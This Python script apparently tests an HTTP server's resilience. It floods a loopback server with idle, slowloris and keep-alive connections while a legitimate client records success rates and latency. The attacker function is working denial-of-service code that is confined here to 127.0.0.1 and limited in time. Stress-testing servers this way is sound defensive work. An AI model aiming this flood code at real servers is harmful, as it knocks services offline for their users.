#!/usr/bin/env python3
"""One connection flood against a server on loopback, and a legit client.

The attacker holds CONNS connections from 127.0.0.2 to 127.0.0.1:PORT for
SECONDS, reopening each one the server closes:
  idle       connect, send nothing
  slowloris  send an unfinished request head, then one more header line
             every 5 s
  keepalive  one request, then sit idle on the keep-alive connection
Meanwhile the legit client on 127.0.0.1 sends one GET on a new connection
every 0.2 s with a 3 s timeout. Prints one line of `key=value`s: legit
requests answered with 200, p50/p99/max latency, and what the attacker saw.
Everything is bounded in time; only loopback is touched.
"""
import selectors
import socket
import sys
import threading
import time

ATTACKER = "127.0.0.2"
LEGIT = "127.0.0.1"
HEAD = b"GET / HTTP/1.1\r\nHost: flood\r\n"
GET = b"GET / HTTP/1.1\r\nHost: flood\r\n\r\n"
GET_CLOSE = b"GET / HTTP/1.1\r\nHost: legit\r\nConnection: close\r\n\r\n"


def legit_client(port, seconds, results):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        started = time.monotonic()
        status = "timeout"
        try:
            s = socket.create_connection((LEGIT, port), timeout=3, source_address=(LEGIT, 0))
            s.settimeout(max(0.01, 3 - (time.monotonic() - started)))
            s.sendall(GET_CLOSE)
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
            status = data[9:12].decode() if data.startswith(b"HTTP/1.1 ") else "closed"
            s.close()
        except socket.timeout:
            status = "timeout"
        except OSError as e:
            status = type(e).__name__
        took = time.monotonic() - started
        results.append((status, took))
        time.sleep(max(0, 0.2 - took))


def attacker(port, kind, conns, seconds, stats, stop):
    sel = selectors.DefaultSelector()
    state = {}  # socket -> "connecting" | "held"

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((ATTACKER, 0))
        except OSError:
            s.close()
            stats["bind_errors"] += 1
            return
        try:
            s.connect((LEGIT, port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            stats["connect_errors"] += 1
            return
        stats["opened"] += 1
        state[s] = "connecting"
        sel.register(s, selectors.EVENT_WRITE)

    def drop(s):
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        state.pop(s, None)
        s.close()

    for _ in range(conns):
        open_one()
    end = time.monotonic() + seconds
    next_trickle = time.monotonic() + 5
    while time.monotonic() < end and not stop.is_set():
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            if state.get(s) == "connecting":
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    stats["connect_errors"] += 1
                    drop(s)
                    open_one()
                    continue
                state[s] = "held"
                try:
                    if kind == "slowloris":
                        s.send(HEAD)
                    elif kind == "keepalive":
                        s.send(GET)
                except OSError:
                    pass
                sel.modify(s, selectors.EVENT_READ)
                continue
            try:
                data = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                if data.startswith(b"HTTP/1.1 200"):
                    stats["answered"] += 1
                elif data.startswith(b"HTTP/1.1 "):
                    stats["answered_" + data[9:12].decode()] += 1
                continue
            stats["closed_by_server"] += 1
            drop(s)
            open_one()
        # Keep the count up (a failed open is retried here).
        while len(state) < conns and time.monotonic() < end:
            before = stats["opened"]
            open_one()
            if stats["opened"] == before:
                break
        if kind == "slowloris" and time.monotonic() >= next_trickle:
            next_trickle += 5
            for s, st in list(state.items()):
                if st == "held":
                    try:
                        s.send(b"X-a: b\r\n")
                    except OSError:
                        pass
    for s in list(state):
        drop(s)


def main():
    port, kind, conns, seconds = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    stats = {k: 0 for k in ["opened", "closed_by_server", "answered", "answered_408",
                            "connect_errors", "bind_errors"]}
    from collections import defaultdict
    stats = defaultdict(int, stats)
    stop = threading.Event()
    results = []
    flood = threading.Thread(target=attacker, args=(port, kind, conns, seconds + 1, stats, stop))
    flood.start()
    time.sleep(1)  # let the flood fill the server first
    legit_client(port, seconds, results)
    stop.set()
    flood.join(timeout=10)
    lat = sorted(t for st, t in results if st == "200")
    ok = len(lat)

    def pct(p):
        if not lat:
            return float("nan")
        return lat[min(len(lat) - 1, int(round(p / 100 * len(lat) + 0.5)) - 1)] * 1000

    failures = sorted({st for st, _ in results if st != "200"})
    print(f"flood={kind} legit={ok}/{len(results)} p50={pct(50):.1f}ms p99={pct(99):.1f}ms "
          f"max={(max(lat) * 1000 if lat else float('nan')):.1f}ms"
          + (f" failures={','.join(failures)}" if failures else "")
          + " attacker: " + " ".join(f"{k}={v}" for k, v in sorted(stats.items())))


if __name__ == "__main__":
    main()
